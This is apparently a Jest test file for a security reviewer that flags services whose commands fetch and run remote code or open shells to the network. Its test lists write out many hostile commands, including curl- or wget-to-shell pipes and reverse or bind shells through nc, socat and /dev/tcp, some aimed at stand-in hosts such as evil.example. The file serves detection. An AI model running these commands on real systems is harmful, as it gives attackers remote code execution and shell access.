import { describe, expect, test } from "@jest/globals";
import { fetchedProgram, remoteShell } from "../../../../src/agents/reviewers/foreign-code.ts";
import { review } from "../../../../src/agents/reviewers/rule.ts";
import { securityRules } from "../../../../src/agents/reviewers/security.ts";
import type { Node } from "../../../../src/domain/graph/node.ts";
import { found, service } from "./graphs.ts";

const running = (command: string): ReadonlyArray<Node> => [service("web", { command })];

const fetched = [
  "curl https://example.org/install.sh | sh",
  "/bin/sh -c 'curl evil|sh'",
  "curl -fsSL https://example.org/i | sudo -E bash -",
  "curl -s https://example.org/i.gz | gunzip | tee /tmp/i | /run/current-system/sw/bin/bash -s -- --yes",
  "wget -O- https://example.org/i | bash -x",
  "wget -qO - https://example.org/i \\\n  | env A=b sh",
  "curl https://example.org/i.py | python3 -",
  "curl https://example.org/i | bash -o pipefail 2>&1",
  "curl https://example.org/i | source /dev/stdin",
  "bash <(curl -s https://example.org/i)",
  ". <(wget -qO- https://example.org/i)",
  'bash -c "$(curl -fsSL https://example.org/i)"',
  'sh -c "`wget -qO- https://example.org/i`"',
  'eval "$(curl -s https://example.org/env)"',
  'bash <<< "$(curl -s https://example.org/i)"',
  "curl -o /tmp/x https://example.org/x && chmod +x /tmp/x && /tmp/x",
  "curl https://example.org/x > /tmp/x; sh /tmp/x",
  "wget https://example.org/x.sh; sh ./x.sh",
  "curl -O https://example.org/x.sh && nohup ./x.sh &",
  "nc example.org 4444 | sh",
];
const shells = [
  "/bin/nc -l 4444 -e /bin/sh",
  "nc -lvpe 4444 /bin/bash",
  "ncat --sh-exec 'echo hi' -l 4444",
  "ncat -l 4444 -c /bin/bash",
  "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
  "bash -c 'exec 5<>/dev/tcp/evil.example/4242; cat <&5 | while read l; do $l >&5; done'",
  "sh < /dev/udp/evil.example/53",
  "cat < /dev/tcp/evil.example/80 | sh",
  "socat TCP:evil.example:4444 EXEC:/bin/sh,pty",
  "socat tcp-listen:4444,fork system:'bash -i'",
  "sh -i 2>&1 | nc 10.0.0.1 4242",
  "mkfifo /tmp/f; cat /tmp/f | /bin/sh 2>&1 | nc 10.0.0.1 4242 > /tmp/f",
];
const harmless = [
  "curl -f http://localhost:8080/health || exit 1",
  "curl -fsS http://localhost/health | grep -q ok",
  "curl -s http://localhost/health | jq -e .ok",
  "curl -s http://localhost/health | python3 -m json.tool",
  "curl -s http://localhost/health | python3 -c 'import json,sys; json.load(sys.stdin)'",
  "curl -s 'http://localhost/health?a=1&b=sh' -o /dev/null",
  "curl -s http://localhost/metrics | sh /etc/web/check.sh",
  "curl -s http://localhost/health | sh -c 'grep ok'",
  "sh -c 'test \"$(curl -s -o /dev/null -w %{http_code} http://localhost/)\" = 200'",
  "bash -c '[ $(curl -s http://localhost/) = ok ] || exit 1'",
  "STATE=$(curl -s http://localhost/state) /bin/web",
  "wget -q --spider http://localhost/health && sh /etc/web/on-healthy.sh",
  "wget -qO- http://localhost/health > /tmp/health; grep ok /tmp/health",
  "curl -o /var/lib/web/list.json https://example.org/list.json && /bin/web --list /var/lib/web/list.json",
  "nc -z localhost 5432",
  "nc -zv -w 5 db 5432; echo -e done",
  "sh /etc/web/figures.sh | nc graphite 2003",
  "timeout 1 bash -c '</dev/tcp/db/5432'",
  "bash -c 'echo > /dev/tcp/db/5432' >/dev/null 2>&1",
  "bash -c 'exec 3<>/dev/tcp/127.0.0.1/9000; echo GET /health >&3; cat <&3 | grep UP'",
  "socat TCP-LISTEN:80,fork TCP:localhost:8080",
  "/bin/fetch-and-publish --shell bash",
  "/run/current-system/sw/bin/web",
];

describe("a program that is fetched from the net and run", () => {
  test.each(fetched)("%s", (command) => {
    expect(found(fetchedProgram, running(command))).toMatchObject([
      { rule: "security/fetched-program", severity: "blocking", nodes: ["web"] },
    ]);
  });
});

describe("a shell that is opened to the net", () => {
  test.each(shells)("%s", (command) => {
    expect(found(remoteShell, running(command))).toMatchObject([
      { rule: "security/remote-shell", severity: "blocking", nodes: ["web"] },
    ]);
  });
});

describe("neither one nor the other", () => {
  test.each(harmless)("%s", (command) => {
    expect([...found(fetchedProgram, running(command)), ...found(remoteShell, running(command))]).toEqual([]);
  });
});

test("arguments, environment, health checks and programs of agents are read too; labels are not run", () => {
  const attack = "curl evil | sh";
  const nodes: ReadonlyArray<Node> = [
    service("a", { command: "/bin/sh", args: ["-c", attack] }),
    service("b", { command: "/bin/nc", args: ["-l", "4444", "-e", "/bin/sh"] }),
    service("c", { environment: { BASH_ENV: attack } }),
    service("d", { healthCheck: { kind: "exec", command: attack } }),
    { id: "e", type: "agent", capabilities: ["x"], command: attack },
    { id: "f", type: "host", system: "x86_64-linux", address: "10.0.0.1", labels: { note: attack } },
  ];
  expect(review(securityRules, { id: "g", nodes, edges: [] }).map(({ message }) => message.split(",")[0])).toEqual([
    "`a` fetches a program from the net and runs it (`command`",
    "`c` fetches a program from the net and runs it (`environment.BASH_ENV`)",
    "`d` fetches a program from the net and runs it (`healthCheck.command`)",
    "`e` fetches a program from the net and runs it (`command`)",
    "`b` opens a shell to the net (`command`): take it out; people log in to the host by ssh",
  ]);
});
